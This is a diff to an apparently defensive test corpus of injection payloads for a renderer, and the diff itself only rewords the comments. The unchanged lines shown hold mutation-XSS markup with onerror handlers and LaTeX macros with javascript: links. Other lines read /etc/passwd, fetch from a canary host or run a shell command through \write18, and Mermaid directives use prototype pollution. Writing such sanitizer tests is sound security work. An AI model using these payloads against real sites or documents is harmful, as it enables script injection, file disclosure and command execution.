@@ -1,10 +1,10 @@
 /**
- * What the first tables of the corpus are thin in: markup that mutates, SVG, shadowed names, styles, directives of
- * diagrams, macros of formulas, words in an order that nobody sees, values of front matter, wiki links. By kind.
+ * More payloads for classes that the corpus covers thinly: mutating markup, SVG, shadowed names, styles, diagram directives, formula macros,
+ * reordered text, front matter values, wiki links. Grouped by class.
  */
 const PWN = "window.__pwn=1";
 
-/** Payloads by the name of their class; each stands in a document as it is. */
+/** Payloads by class; each is a complete document. */
 export const deeper: Readonly<Record<string, readonly string[]>> = {
   mutation: [
     `<math><mtext><table><mglyph><style><math><img src=x onerror=${PWN}></style></mglyph></table></mtext></math>`,
@@ -95,7 +95,7 @@ export const deeper: Readonly<Record<string, readonly string[]>> = {
   ],
 };
 
-/** Formulas: what defines, repeats or reaches beyond its box. */
+/** Formulas that define macros, repeat endlessly, or draw outside their box. */
 export const deeperMaths: readonly string[] = [
   "\\newcommand{\\x}{\\href{javascript:window.__pwn=1}{y}}\\x",
   "\\renewcommand{\\frac}{\\url{javascript:window.__pwn=1}}\\frac12",
@@ -114,7 +114,7 @@ export const deeperMaths: readonly string[] = [
   "\\input{/etc/passwd}\\include{http://CANARY/x}\\write18{touch /tmp/pwned}",
 ];
 
-/** Diagrams: directives that ask for more than a diagram may have. */
+/** Diagrams with directives that exceed what a diagram may do. */
 export const deeperDiagrams: readonly string[] = [
   '%%{init: {"__proto__": {"securityLevel": "loose"}}}%%\ngraph TD\nA["<img src=x onerror=window.__pwn=1>"]',
   '%%{init: {"constructor": {"prototype": {"x": 1}}}}%%\ngraph TD\nA',
